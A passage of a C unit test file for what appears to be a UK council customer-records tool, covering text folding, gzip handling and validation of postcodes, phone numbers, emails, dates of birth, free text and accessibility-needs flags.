	assert_false(utf8_valid("\xff", 1));
	assert_false(utf8_valid("a\x80", 2));
	assert_int_equal(utf8_length(NULL), 0);
	assert_int_equal(utf8_length(""), 0);
	assert_int_equal(utf8_length("Zoë"), 3);
	assert_int_equal(utf8_length("Łukasz 😀"), 8);
}

static void test_trim(void **state)
{
	char *s;

	(void)state;
	assert_null(text_trim(NULL));
	s = text_trim("");
	assert_string_equal(s, "");
	free(s);
	s = text_trim(" \t\n ");
	assert_string_equal(s, "");
	free(s);
	s = text_trim("  Zoë  Smith\r\n");
	assert_string_equal(s, "Zoë  Smith");
	free(s);
}

static void assert_fold(const char *in, const char *want)
{
	char *s = text_fold(in);

	assert_string_equal(s, want);
	free(s);
}

static void test_err_list(void **state)
{
	struct err_list l, all;
	struct err e;
	(void)state;

	err_list_init(&l, 3);
	err_list_release(&l);
	assert_int_equal(l.limit, 3);
	err_list_add(NULL, NULL);
	assert_int_equal(err_list_addf(NULL, STATUS_PARSE, "f", 1, 1, "x"), STATUS_PARSE);
	assert_int_equal(err_list_total(NULL), 0);
	assert_int_equal(err_list_addf(&l, STATUS_INVALID, "b.yaml", 2, 5, "second %d", 2),
			 STATUS_INVALID);
	err_list_addf(&l, STATUS_INVALID, NULL, 0, 0, "no place");
	err_set(&e, STATUS_PARSE, "first");
	err_at(&e, "b.yaml", 2, 1);
	err_list_add(&l, &e);
	err_list_add(&l, &e);
	assert_int_equal(l.count, 3);
	assert_int_equal(l.dropped, 1);
	assert_int_equal(err_list_total(&l), 4);
	err_list_sort(&l);
	assert_string_equal(l.items[0].msg, "no place");
	assert_string_equal(l.items[0].file, "");
	assert_string_equal(l.items[1].msg, "first");
	assert_string_equal(l.items[2].msg, "second 2");
	assert_int_equal(l.items[2].col, 5);

	err_list_init(&all, 0);
	err_list_move(&all, &l);
	assert_int_equal(all.count, 3);
	assert_int_equal(err_list_total(&all), 4);
	assert_int_equal(err_list_total(&l), 0);
	err_list_release(&all);
}

static void test_gzip(void **state)
{
	struct buf z, small, plain;
	struct err e;
	char text[4096];
	(void)state;

	memset(text, 'a', sizeof text);
	buf_init(&z, 0);
	assert_int_equal(buf_add_gzip(&z, "", 0), STATUS_OK);
	assert_true(z.len > 2);
	assert_int_equal((unsigned char)z.data[0], 0x1f);
	assert_int_equal((unsigned char)z.data[1], 0x8b);
	buf_reset(&z);
	assert_int_equal(buf_add_gzip(&z, text, sizeof text), STATUS_OK);
	assert_true(z.len < sizeof text / 10);
	buf_init(&small, 8);
	assert_int_equal(buf_add_gzip(&small, text, sizeof text), STATUS_TOO_BIG);
	buf_release(&small);

	buf_init(&plain, 0);
	assert_int_equal(buf_add_gunzip(&plain, z.data, z.len, &e), STATUS_OK);
	assert_int_equal(plain.len, sizeof text);
	assert_memory_equal(plain.data, text, sizeof text);
	buf_reset(&plain);
	assert_int_equal(buf_add_gunzip(&plain, z.data, z.len - 4, &e), STATUS_PARSE);
	assert_string_equal(e.msg, "the gzip body is cut short");
	buf_reset(&plain);
	assert_int_equal(buf_add_gunzip(&plain, "plain", 5, &e), STATUS_PARSE);
	assert_string_equal(e.msg, "the body is not valid gzip");
	buf_init(&small, 100);
	assert_int_equal(buf_add_gunzip(&small, z.data, z.len, &e), STATUS_TOO_BIG);
	buf_release(&small);
	buf_reset(&plain);
	buf_reset(&z);
	assert_int_equal(buf_add_gzip(&z, "", 0), STATUS_OK);
	assert_int_equal(buf_add_gunzip(&plain, z.data, z.len, &e), STATUS_OK);
	assert_string_equal(buf_str(&plain), "");
	buf_release(&plain);
	buf_release(&z);
}

static void test_suggest(void **state)
{
	static const char *const teams[] = {"revenues", "benefits", "waste", "planning"};
	static const char *const gaps[] = {NULL, "customer", NULL, "case"};
	(void)state;

	assert_null(text_suggest("", teams, 4));
	assert_null(text_suggest("x", NULL, 0));
	assert_null(text_suggest("x", teams, 4));
	assert_string_equal(text_suggest("revenue", teams, 4), "revenues");
	assert_string_equal(text_suggest("benfits", teams, 4), "benefits");
	assert_string_equal(text_suggest("wsate", teams, 4), "waste");
	assert_null(text_suggest("parking", teams, 4));
	assert_string_equal(text_suggest("cust", gaps, 4), "customer");
	assert_string_equal(text_suggest("cse", gaps, 4), "case");
	assert_null(text_suggest("an-overlong-word-that-no-short-name-is-anywhere-near-at-all-ever", teams, 4));
}

static void test_fold(void **state)
{
	(void)state;
	assert_null(text_fold(NULL));
	assert_fold("", "");
	assert_fold("\xff" "AB", "\xff" "ab"); /* not UTF-8: bytes kept, ASCII folded */
	assert_fold("Łukasz", "lukasz");
	assert_fold("łódź", "lódź"); /* ó and ź decompose: left to unicode61 */
	assert_fold("Straße", "strasse");
	assert_fold("ẞ", "ss");
	assert_fold("Øyvind Ærø", "oyvind aero");
	assert_fold("Đorđe", "dorde");
	assert_fold("Þór", "thór");
	assert_fold("O'BRIEN-SMITH 42", "o'brien-smith 42");
	assert_fold("Zoë", "zoë");
	assert_fold("Nguyễn", "nguyễn");
	assert_fold("عائشة", "عائشة");
	assert_fold("ΣΟΦΙΑ", "ΣΟΦΙΑ");
}

/* ---- validation -------------------------------------------------------- */

static void assert_postcode(const char *in, const char *want)
{
	char out[16];
	struct err e;

	err_clear(&e);
	assert_int_equal(valid_postcode("postcode", in, out, sizeof(out), &e), STATUS_OK);
	assert_string_equal(out, want);
}

static void assert_postcode_bad(const char *in)
{
	char out[16] = "untouched";
	struct err e;

	err_clear(&e);
	assert_int_equal(valid_postcode("postcode", in, out, sizeof(out), &e), STATUS_INVALID);
	assert_int_equal(e.code, STATUS_INVALID);
	assert_non_null(strstr(e.msg, "postcode"));
	assert_non_null(strstr(e.msg, "NG12 3AB"));
}

static void test_postcode(void **state)
{
	struct err e;
	char out[16];

	(void)state;
	assert_postcode_bad(NULL);
	assert_postcode_bad("");
	assert_postcode_bad("   ");
	assert_postcode_bad("NG12 3AB NG12 3AB NG12 3AB NG12 3AB NG12 3AB NG12 3AB NG12 3AB");
	assert_postcode_bad("NG12\xc3 3AB");
	assert_postcode_bad("NG12 3");
	assert_postcode_bad("NG123");
	assert_postcode_bad("N 3AB");
	assert_postcode_bad("NGA2 3AB");
	assert_postcode_bad("123 4AB");
	assert_postcode_bad("NG12 33B");
	assert_postcode_bad("NG12 3A8");
	assert_postcode_bad("NG1 23AB"); /* space in the wrong place */
	assert_postcode_bad("NG12  3 AB");
	assert_postcode_bad("NG12-3AB");
	assert_postcode_bad("ABC12 3AB");
	assert_postcode_bad("NG12A 3AB");
	assert_postcode_bad("GIR 0AB1");
	err_clear(&e);
	valid_postcode("postcode", "NG12 3", out, sizeof(out), &e);
	assert_string_equal(e.msg, "postcode 'NG12 3' is not a UK postcode; write it like NG12 3AB");
	valid_postcode(NULL, "", out, sizeof(out), &e);
	assert_string_equal(e.msg, "postcode is empty; write it like NG12 3AB");
	/* A long value is not echoed. */
	valid_postcode("postcode", "this is a very long line of text that is no postcode",
		       out, sizeof(out), &e);
	assert_null(strstr(e.msg, "very long"));

	assert_postcode("NG12 3AB", "NG12 3AB");
	assert_postcode("ng12 3ab", "NG12 3AB");
	assert_postcode("ng123ab", "NG12 3AB");
	assert_postcode("  Ng12   3aB ", "NG12 3AB");
	assert_postcode("M1 1AE", "M1 1AE");        /* A9 */
	assert_postcode("B33 8TH", "B33 8TH");      /* A99 */
	assert_postcode("CR2 6XH", "CR2 6XH");      /* AA9 */
	assert_postcode("DN55 1PT", "DN55 1PT");    /* AA99 */
	assert_postcode("W1A 0AX", "W1A 0AX");      /* A9A */
	assert_postcode("EC1A 1BB", "EC1A 1BB");    /* AA9A */
	assert_postcode("ec1a1bb", "EC1A 1BB");
	assert_postcode("GIR 0AA", "GIR 0AA");
	assert_postcode("gir0aa", "GIR 0AA");
	assert_int_equal(valid_postcode(NULL, "NG12 3AB", NULL, 0, NULL), STATUS_OK);

	postcode_compact("NG12 3AB", out, sizeof(out));
	assert_string_equal(out, "ng123ab");
	postcode_compact(NULL, out, sizeof(out));
	assert_string_equal(out, "");
	postcode_compact("GIR 0AA", out, 4);
	assert_string_equal(out, "gir");
}

static void test_email(void **state)
{
	struct err e;
	char longmail[300];

	(void)state;
	err_clear(&e);
	assert_int_equal(valid_email("email", NULL, &e), STATUS_INVALID);
	assert_string_equal(e.msg, "email is empty; write it like name@example.co.uk");
	assert_int_equal(valid_email("email", "", &e), STATUS_INVALID);
	memset(longmail, 'a', sizeof(longmail));
	memcpy(longmail + 280, "@example.com", 13);
	assert_int_equal(valid_email("email", longmail, &e), STATUS_INVALID);
	assert_non_null(strstr(e.msg, "longer than 254"));
	assert_null(strstr(e.msg, "aaaa"));
	assert_int_equal(valid_email("email", "ann\xff@example.com", &e), STATUS_INVALID);
	assert_int_equal(valid_email("email", "ann.example.com", &e), STATUS_INVALID);
	assert_non_null(strstr(e.msg, "email 'ann.example.com' is not an email address"));
	assert_int_equal(valid_email("email", "ann@@example.com", &e), STATUS_INVALID);
	assert_int_equal(valid_email("email", "ann@example", &e), STATUS_INVALID);
	assert_int_equal(valid_email("email", "ann smith@example.com", &e), STATUS_INVALID);
	assert_int_equal(valid_email("email", "@example.com", &e), STATUS_INVALID);
	assert_int_equal(valid_email("email", "ann@", &e), STATUS_INVALID);
	assert_int_equal(valid_email("email", "ann@.example.com", &e), STATUS_INVALID);
	assert_int_equal(valid_email("email", "ann@example..com", &e), STATUS_INVALID);
	assert_int_equal(valid_email("email", "ann@-example.com", &e), STATUS_INVALID);
	assert_int_equal(valid_email("email", "ann@example.c", &e), STATUS_INVALID);
	assert_int_equal(valid_email("email", "ann@example.c0m", &e), STATUS_INVALID);
	assert_int_equal(valid_email("email", ".ann@example.com", &e), STATUS_INVALID);
	assert_int_equal(valid_email("email", "ann..b@example.com", &e), STATUS_INVALID);
	assert_int_equal(valid_email("email", "<ann@example.com>", &e), STATUS_INVALID);

	assert_int_equal(valid_email("email", "ann@example.com", &e), STATUS_OK);
	assert_int_equal(valid_email("email", "ann.o'brien+bins@mail.example.co.uk", &e),
			 STATUS_OK);
	assert_int_equal(valid_email("email", "zoë@exämple.org", &e), STATUS_OK);
	assert_int_equal(valid_email(NULL, "a@b.xn--p1ai", NULL), STATUS_OK);
}

static void assert_phone(const char *in, const char *want)
{
	char out[16], nat[16];
	struct err e;

	err_clear(&e);
	if (valid_phone("phone", in, out, sizeof(out), &e) != STATUS_OK)
		fail_msg("phone '%s' refused: %s", in, e.msg);
	assert_string_equal(out, want);
	phone_national(out, nat, sizeof(nat));
	assert_int_equal(nat[0], '0');
	assert_string_equal(nat + 1, want + 3);
}

static void assert_phone_bad(const char *in, const char *why)
{
	char out[16];
	struct err e;

	err_clear(&e);
	if (valid_phone("phone", in, out, sizeof(out), &e) != STATUS_INVALID)
		fail_msg("phone '%s' accepted as %s", in, out);
	if (!strstr(e.msg, why))
		fail_msg("phone '%s': message '%s' lacks '%s'", in, e.msg, why);
}

static void test_phone(void **state)
{
	char nat[16];

	(void)state;
	assert_phone_bad(NULL, "phone is empty");
	assert_phone_bad("", "phone is empty");
	assert_phone_bad("  - ", "phone is empty");
	assert_phone_bad("0770090012301234567890123456789012345678901", "longer than 40");
	assert_phone_bad("07700\xc3 900123", "characters a phone number cannot have");
	assert_phone_bad("07700 900123 ext 4", "characters a phone number cannot have");
	assert_phone_bad("07700/900123", "characters a phone number cannot have");
	assert_phone_bad("0770+0900123", "characters a phone number cannot have");
	assert_phone_bad("(01632 960 001", "characters a phone number cannot have");
	assert_phone_bad("+1 555 123 4567", "not a UK number");
	assert_phone_bad("001 555 123 4567", "not a UK number");
	assert_phone_bad("+33 1 23 45 67 89", "not a UK number");
	assert_phone_bad("7700 900123", "not a UK number");
	assert_phone_bad("07700 9001", "too short");
	assert_phone_bad("01632 96", "too short");
	assert_phone_bad("+44 7700 9001", "too short");
	assert_phone_bad("07700 9001234", "too long");
	assert_phone_bad("+44 07700 9001234", "too long");
	assert_phone_bad("12345", "not a UK number");
	assert_phone_bad("+4", "not a UK number");

	assert_phone("+44 7700 900123", "+447700900123");
	assert_phone("07700900123", "+447700900123");
	assert_phone("07700 900 123", "+447700900123");
	assert_phone("07700-900-123", "+447700900123");
	assert_phone("07700.900.123", "+447700900123");
	assert_phone("(01632) 960 001", "+441632960001");
	assert_phone("0044 7700 900123", "+447700900123");
	assert_phone("0044 1632 960001", "+441632960001");
	assert_phone("447700900123", "+447700900123");
	assert_phone("+44 (0)7700 900123", "+447700900123");
	assert_phone("+447700900123", "+447700900123");
	assert_phone("0800 123456", "+44800123456"); /* ten digits */
	assert_phone("020 7946 0000", "+442079460000");

	phone_national("+447700900123", nat, sizeof(nat));
	assert_string_equal(nat, "07700900123");
	phone_national(NULL, nat, sizeof(nat));
	assert_string_equal(nat, "");
	phone_national("+447700900123", nat, 6); /* cut short, never overrun */
	assert_string_equal(nat, "07700");
}

static void test_dob(void **state)
{
	struct err e;
	struct date d;

	(void)state;
	err_clear(&e);
	set_now("2026-03-28T23:30:00Z");
	assert_int_equal(valid_dob("date of birth", NULL, &d, &e), STATUS_INVALID);
	assert_non_null(strstr(e.msg, "date of birth is empty"));
	assert_int_equal(valid_dob("date of birth", "31/07/1984", &d, &e), STATUS_INVALID);
	assert_non_null(strstr(e.msg, "YYYY-MM-DD"));
	assert_int_equal(valid_dob("date of birth", "2025-02-29", &d, &e), STATUS_INVALID);
	assert_int_equal(valid_dob("date of birth", "2026-03-29", &d, &e), STATUS_INVALID);
	assert_string_equal(e.msg, "date of birth 2026-03-29 is in the future (today is "
				   "2026-03-28); check the year");
	assert_int_equal(valid_dob("date of birth", "1899-12-31", &d, &e), STATUS_INVALID);
	assert_non_null(strstr(e.msg, "before 1900"));

	assert_int_equal(valid_dob("date of birth", "2026-03-28", &d, &e), STATUS_OK);
	assert_date(d, 2026, 3, 28);
	assert_int_equal(valid_dob(NULL, "1900-01-01", NULL, NULL), STATUS_OK);
	/* Half an hour later, London (now BST) has moved on a day... at 01:00Z. */
	set_now("2026-03-29T00:30:00Z");
	assert_int_equal(valid_dob(NULL, "2026-03-29", &d, NULL), STATUS_OK);
	set_now("2026-06-01T23:30:00Z");
	assert_int_equal(valid_dob(NULL, "2026-06-02", &d, NULL), STATUS_OK);
}

static void test_text(void **state)
{
	struct err e;
	char big[NAME_MAX_CHARS * 2 + 8];

	(void)state;
	err_clear(&e);
	assert_int_equal(valid_text("name", NULL, 10, true, false, &e), STATUS_INVALID);
	assert_string_equal(e.msg, "name is required; fill it in");
	assert_int_equal(valid_text("name", NULL, 10, false, false, &e), STATUS_OK);
	/* Invisible and direction-changing characters are refused, in names
	 * and in case text; the joiners some scripts need are kept. */
	{
		static const char *const bad[] = {
			"Ann\xe2\x80\xae" "eciffo",	   /* U+202E right-to-left override */
			"Ann\xe2\x80\xaa" "x",	   /* U+202A embedding */
			"pay \xe2\x81\xa6" "x\xe2\x81\xa9", /* U+2066..2069 isolates */
			"Ann\xe2\x80\x8bSmith",	   /* U+200B zero-width space */
			"Ann\xe2\x80\x8fSmith",	   /* U+200F right-to-left mark */
			"Ann\xe2\x81\xa0Smith",	   /* U+2060 word joiner */
			"\xef\xbb\xbf" "Ann",	   /* U+FEFF byte-order mark */
			"\xd8\x9c" "x",		   /* U+061C Arabic letter mark */
		};

		for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
			assert_int_equal(valid_text("name", bad[i], 80, true, false, &e),
					 STATUS_INVALID);
			assert_non_null(strstr(e.msg, "invisible or direction-changing"));
			assert_int_equal(valid_text("reason", bad[i], 80, true, true, &e),
					 STATUS_INVALID);
		}
		/* ZWNJ in Persian, ZWJ in an emoji sequence */
		assert_int_equal(valid_text("name", "\xd9\x85\xdb\x8c\xe2\x80\x8c\xd8\xae", 80,
					    true, false, &e),
				 STATUS_OK);
		assert_int_equal(valid_text("note", "\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x92\xbb",
					    80, true, true, &e),
				 STATUS_OK);
		assert_int_equal(valid_text("name", "\xd8\xb9\xd8\xa7\xd8\xa6\xd8\xb4\xd8\xa9", 80,
					    true, false, &e),
				 STATUS_OK);
	}
	assert_int_equal(valid_text("name", "", 10, true, false, &e), STATUS_INVALID);
	assert_int_equal(valid_text("name", " \t ", 10, true, false, &e), STATUS_INVALID);
	assert_int_equal(valid_text("name", "", 10, false, false, &e), STATUS_OK);
	assert_int_equal(valid_text("name", "Zo\xeb", 10, true, false, &e), STATUS_INVALID);
	assert_non_null(strstr(e.msg, "not UTF-8"));
	assert_int_equal(valid_text("name", "Ann\nSmith", 10, true, false, &e), STATUS_INVALID);
	assert_non_null(strstr(e.msg, "one line"));
	assert_int_equal(valid_text("name", "Ann\tSmith", 10, true, false, &e), STATUS_INVALID);
	assert_int_equal(valid_text("notes", "a\x1b[2Jb", 100, true, true, &e), STATUS_INVALID);
	assert_int_equal(valid_text("notes", "a\xc2\x85" "b", 100, true, true, &e),
			 STATUS_INVALID);
	assert_int_equal(valid_text("notes", "a\rb", 100, true, true, &e), STATUS_INVALID);
	memset(big, 'x', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	assert_int_equal(valid_text("name", big, NAME_MAX_CHARS, true, false, &e),
			 STATUS_INVALID);
	assert_non_null(strstr(e.msg, "name is 407 characters long; the most is 200"));
	assert_null(strstr(e.msg, "xxx"));

	assert_int_equal(valid_text("notes", "line 1\n\tline 2", 100, true, true, &e),
			 STATUS_OK);
	/* Code points, not bytes: 5 two-byte letters fit in 5. */
	assert_int_equal(valid_text("name", "ŁŁŁŁŁ", 5, true, false, &e), STATUS_OK);
	assert_int_equal(valid_text("name", "ŁŁŁŁŁŁ", 5, true, false, &e), STATUS_INVALID);
	assert_int_equal(valid_text("name", "عائشة", 5, true, false, NULL), STATUS_OK);
}

static void test_code_uprn_int_money(void **state)
{
	struct err e;
	long v = -7;

	(void)state;
	err_clear(&e);
	assert_int_equal(valid_code("service", NULL, &e), STATUS_INVALID);
	assert_int_equal(valid_code("service", "", &e), STATUS_INVALID);
	assert_int_equal(valid_code("service", "a2345678901234567890123456789012345678901", &e),
			 STATUS_INVALID);
	assert_int_equal(valid_code("service", "Council Tax", &e), STATUS_INVALID);
	assert_string_equal(e.msg, "service 'Council Tax' is not a code; use lower-case "
				   "letters, digits and dashes, like 'council-tax'");
	assert_int_equal(valid_code("service", "council_tax", &e), STATUS_INVALID);
	assert_int_equal(valid_code("service", "council-tax", &e), STATUS_OK);
	assert_int_equal(valid_code("service", "a234567890123456789012345678901234567890", &e),
			 STATUS_OK);

	assert_int_equal(valid_uprn("UPRN", NULL, &e), STATUS_INVALID);
	assert_int_equal(valid_uprn("UPRN", "", &e), STATUS_INVALID);
	assert_int_equal(valid_uprn("UPRN", "1234567890123", &e), STATUS_INVALID);
	assert_int_equal(valid_uprn("UPRN", "12345a", &e), STATUS_INVALID);
	assert_int_equal(valid_uprn("UPRN", " 123", &e), STATUS_INVALID);
	assert_int_equal(valid_uprn("UPRN", "100030000001", &e), STATUS_OK);
	assert_int_equal(valid_uprn("UPRN", "1", &e), STATUS_OK);

	assert_int_equal(valid_int("minutes", NULL, 0, 60, &v, &e), STATUS_INVALID);
	assert_int_equal(valid_int("minutes", "", 0, 60, &v, &e), STATUS_INVALID);
	assert_int_equal(valid_int("minutes", " 5", 0, 60, &v, &e), STATUS_INVALID);
	assert_int_equal(valid_int("minutes", "5 ", 0, 60, &v, &e), STATUS_INVALID);
	assert_int_equal(valid_int("minutes", "5x", 0, 60, &v, &e), STATUS_INVALID);
	assert_string_equal(e.msg,
			    "minutes '5x' is not a whole number; give one from 0 to 60, digits only");
	assert_int_equal(valid_int("minutes", "-", 0, 60, &v, &e), STATUS_INVALID);
	assert_int_equal(valid_int("minutes", "61", 0, 60, &v, &e), STATUS_INVALID);
	assert_non_null(strstr(e.msg, "out of range"));
	assert_int_equal(valid_int("minutes", "99999999999999999999999", 0, 60, &v, &e),
			 STATUS_INVALID);
	assert_int_equal(v, -7);
	assert_int_equal(valid_int("minutes", "60", 0, 60, &v, &e), STATUS_OK);
	assert_int_equal(v, 60);
	assert_int_equal(valid_int("offset", "-3", -5, 5, &v, &e), STATUS_OK);
	assert_int_equal(v, -3);

	assert_int_equal(valid_money("cost", NULL, &v, &e), STATUS_INVALID);
	assert_int_equal(valid_money("cost", "", &v, &e), STATUS_INVALID);
	assert_int_equal(valid_money("cost", "10.", &v, &e), STATUS_INVALID);
	assert_int_equal(valid_money("cost", "10.531", &v, &e), STATUS_INVALID);
	assert_int_equal(valid_money("cost", ".53", &v, &e), STATUS_INVALID);
	assert_int_equal(valid_money("cost", "-1.00", &v, &e), STATUS_INVALID);
	assert_int_equal(valid_money("cost", "1,000", &v, &e), STATUS_INVALID);
	assert_int_equal(valid_money("cost", "99999999999999999999", &v, &e), STATUS_INVALID);
	assert_int_equal(valid_money("cost", "10.53", &v, &e), STATUS_OK);
	assert_int_equal(v, 1053);
	assert_int_equal(valid_money("cost", "10.5", &v, &e), STATUS_OK);
	assert_int_equal(v, 1050);
	assert_int_equal(valid_money("cost", "7", &v, &e), STATUS_OK);
	assert_int_equal(v, 700);
	assert_int_equal(valid_money("cost", "£0.05", &v, &e), STATUS_OK);
	assert_int_equal(v, 5);
}

/* ---- records ----------------------------------------------------------- */

static void test_field_table(void **state)
{
	(void)state;
	assert_int_equal(CF_COUNT, 11);
	assert_string_equal(customer_field_name(CF_postcode), "postcode");
	assert_string_equal(customer_field_name(CF_preferred_channel), "preferred_channel");
	assert_string_equal(customer_field_label(CF_dob), "date of birth");
	assert_string_equal(customer_field_name((enum customer_field)99), "unknown");
	assert_int_equal(customer_field_find("dob"), CF_dob);
	assert_int_equal(customer_field_find("consent"), CF_consent);
	assert_int_equal(customer_field_find("Name"), -1);
	assert_int_equal(customer_field_find(""), -1);
	assert_int_equal(customer_field_find(NULL), -1);
	for (int i = 0; i < CF_COUNT; i++)
		assert_int_equal(customer_field_find(customer_field_name((enum customer_field)i)),
				 i);
}

static void assert_field(enum customer_field f, const char *in, const char *want)
{
	char *out = (char *)"sentinel";
	struct err e;

	err_clear(&e);
	if (customer_field_check(f, in, &out, &e) != STATUS_OK)
		fail_msg("%s '%s' refused: %s", customer_field_name(f), in, e.msg);
	if (!want) {
		assert_null(out);
		return;
	}
	assert_non_null(out);
	assert_string_equal(out, want);
	free(out);
}

static void assert_field_bad(enum customer_field f, const char *in, const char *why)
{
	char *out = (char *)"sentinel";
	struct err e;

	err_clear(&e);
	assert_int_equal(customer_field_check(f, in, &out, &e), STATUS_INVALID);
	assert_null(out);
	if (!strstr(e.msg, why))
		fail_msg("%s: message '%s' lacks '%s'", customer_field_name(f), e.msg, why);
}

static void test_field_check(void **state)
{
	char big[ADDRESS_MAX_CHARS + 2];

	(void)state;
	set_now("2026-03-29T12:00:00Z");
	/* Degenerate: NULL and blank clear any field. */
	for (int i = 0; i < CF_COUNT; i++) {
		assert_field((enum customer_field)i, NULL, NULL);
		assert_field((enum customer_field)i, "", NULL);
		assert_field((enum customer_field)i, "  \t ", NULL);
	}
	assert_int_equal(customer_field_check((enum customer_field)42, "x", NULL, NULL),
			 STATUS_INVALID);
	assert_int_equal(customer_field_check(CF_name, "Ann", NULL, NULL), STATUS_OK);
	memset(big, 'x', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	assert_field_bad(CF_address, big, "address is 501 characters long");
	assert_field_bad(CF_name, "Ann\xff", "name has characters that are not text");

	assert_field(CF_name, "  Łukasz Nowak ", "Łukasz Nowak");
	assert_field_bad(CF_name, "Ann\nSmith", "write it on one line");
	assert_field(CF_dob, " 1984-07-31 ", "1984-07-31");
	assert_field_bad(CF_dob, "2027-01-01", "date of birth 2027-01-01 is in the future");
	assert_field_bad(CF_dob, "1984-02-30", "date of birth '1984-02-30' is not a real date");
	assert_field(CF_address, "1 High Street\nNewtown\n", "1 High Street\nNewtown");
	assert_field(CF_postcode, "ng12 3ab", "NG12 3AB");
	assert_field_bad(CF_postcode, "NG12 3", "postcode 'NG12 3' is not a UK postcode");
	assert_field(CF_uprn, "100030000001", "100030000001");
	assert_field_bad(CF_uprn, "10003A", "UPRN '10003A' is not a UPRN");
	assert_field(CF_phone, "07700 900 123", "+447700900123");
	assert_field_bad(CF_phone, "+1 555 123 4567", "phone '+1 555 123 4567' is not a UK");
	assert_field(CF_email, " Ann.Smith@Example.CO.UK ", "Ann.Smith@example.co.uk");
	assert_field_bad(CF_email, "ann@", "email 'ann@' is not an email address");
	assert_field(CF_preferred_channel, "phone", "phone");
	assert_field_bad(CF_preferred_channel, "Phone", "preferred channel 'Phone' is not a code");
	assert_field(CF_needs, "sight, Hearing", "hearing,sight");
	/* the codes themselves are the council's (store_needs_check) */
	assert_field_bad(CF_needs, "de@f", "needs flag 'de@f' is not known");
	assert_field(CF_needs_basis, " Consent ", "consent");
	assert_field(CF_needs_basis, "vital-interests", "vital-interests");
	assert_field_bad(CF_needs_basis, "because", "consent or vital-interests");
	assert_field(CF_consent, "verbal consent to share with housing",
		     "verbal consent to share with housing");
	assert_field_bad(CF_consent, "yes\x01", "consent has control characters");
}

/* The eight needs flags of earlier versions, as a desk knows them before
 * data/needs.csv is loaded (store schema 9 seeds them). */
static const struct ref_need legacy_needs[] = {
	{ (char *)"hearing", (char *)"hearing impaired", NEED_DETAIL_NONE, false },
	{ (char *)"sight", (char *)"visually impaired", NEED_DETAIL_NONE, false },
	{ (char *)"dementia", (char *)"dementia", NEED_DETAIL_NONE, false },
	{ (char *)"no-internet", (char *)"no internet access", NEED_DETAIL_NONE, false },
	{ (char *)"interpreter", (char *)"needs an interpreter", NEED_DETAIL_LANGUAGE, false },
	{ (char *)"carer", (char *)"has a carer or representative", NEED_DETAIL_NAME, false },
	{ (char *)"mobility", (char *)"mobility", NEED_DETAIL_NONE, false },
	{ (char *)"learning", (char *)"learning disability", NEED_DETAIL_NONE, false },
	{ (char *)"prefers", (char *)"prefers contact by", NEED_DETAIL_CHANNEL, true },
};
#define LEGACY_NEEDS 8 /* listed in messages: prefers is new */

static const struct ref_need *legacy_find(void *ctx, const char *code)
{
	(void)ctx;
	for (size_t i = 0; i < sizeof legacy_needs / sizeof legacy_needs[0]; i++)
		if (!strcmp(legacy_needs[i].code, code))
			return &legacy_needs[i];
	return NULL;
}

static bool legacy_channel(void *ctx, const char *code)
{
	(void)ctx;
	return !strcmp(code, "phone") || !strcmp(code, "email");
}

static void legacy_list(void *ctx, char *out, size_t outsz)
{
	size_t used = 0;

	(void)ctx;
	out[0] = '\0';
	for (size_t i = 0; i < LEGACY_NEEDS; i++)
		used += (size_t)snprintf(out + used, outsz - used, "%s%s", i ? ", " : "",
					 legacy_needs[i].code);
}

static const struct needs_known legacy = { legacy_find, legacy_channel, legacy_list, NULL };

static void assert_needs(const char *in, const char *want)
{
	char *out = NULL;
	struct err e;

	err_clear(&e);
	if (needs_check(in, &legacy, &out, &e) != STATUS_OK)
		fail_msg("needs '%s' refused: %s", in, e.msg);
	assert_string_equal(out, want);
	free(out);
}

static void assert_needs_bad(const char *in, const char *why)
{
	char *out = (char *)"sentinel";
	struct err e;

	err_clear(&e);
	assert_int_equal(needs_check(in, &legacy, &out, &e), STATUS_INVALID);
	assert_null(out);
	if (!strstr(e.msg, why))
		fail_msg("needs '%s': message '%s' lacks '%s'", in, e.msg, why);
}

static void test_needs(void **state)
{
	char big[1100];

	(void)state;
	assert_needs(NULL, "");
	assert_needs("", "");
	assert_needs(" , ,", "");
	memset(big, ',', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	assert_needs_bad(big, "needs is too long");
	assert_needs_bad("hearing,\xff", "is not known");
	assert_needs_bad("deaf", "needs flag 'deaf' is not known; use any of: hearing, sight, "
				 "dementia, no-internet, interpreter, carer, mobility, learning");
	assert_needs_bad("hearing;sight", "is not known");
	assert_needs_bad("hearing:left ear", "needs flag 'hearing' takes no detail");
	assert_needs_bad("interpreter:Polish,interpreter:Romanian", "listed twice with two details");
	assert_needs_bad("interpreter:Pol1sh", "not a language name");
	assert_needs_bad("interpreter:Pol\xffsh", "not a language name");
	assert_needs_bad("interpreter:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
			 "longer than 40 characters");

	assert_needs("hearing", "hearing");
	assert_needs("sight,hearing", "hearing,sight");
	assert_needs(" sight , HEARING ,sight,", "hearing,sight");
	assert_needs("no-internet,carer,mobility,learning,dementia,interpreter,sight,hearing",
		     "carer,dementia,hearing,interpreter,learning,mobility,no-internet,sight");
	assert_needs("interpreter:Polish,hearing", "hearing,interpreter:Polish");
	assert_needs("interpreter, interpreter: Polish", "interpreter:Polish");
	assert_needs("interpreter:Polish,interpreter:polish", "interpreter:Polish");
	assert_needs("interpreter:", "interpreter");
	assert_needs("interpreter:Chinese (Mandarin)", "interpreter:Chinese (Mandarin)");
	assert_needs("interpreter:Українська", "interpreter:Українська");
	assert_int_equal(needs_check("carer", NULL, NULL, NULL), STATUS_OK);

	/* details of every kind; the form alone when nothing is known */
	assert_needs("carer:Ann Lee", "carer:Ann Lee");
	assert_needs("prefers:phone, hearing", "hearing,prefers:phone");
	assert_needs_bad("prefers", "needs flag 'prefers' takes a channel after a colon");
	assert_needs_bad("prefers:fax", "not a channel code");
	assert_needs_bad("carer:Ann\x01", "is not plain text");
	assert_needs_bad("bsl", "needs flag 'bsl' is not known");
	assert_int_equal(needs_check("bsl,anything:at all", NULL, NULL, NULL), STATUS_OK);
	assert_int_equal(needs_check("B S L", NULL, NULL, NULL), STATUS_INVALID);

	/* the basis that goes with them */
	assert_int_equal(needs_basis_check("consent", NULL), STATUS_OK);
	assert_int_equal(needs_basis_check("Vital-Interests", NULL), STATUS_OK);
	assert_int_equal(needs_basis_check("legitimate-interests", NULL), STATUS_INVALID);
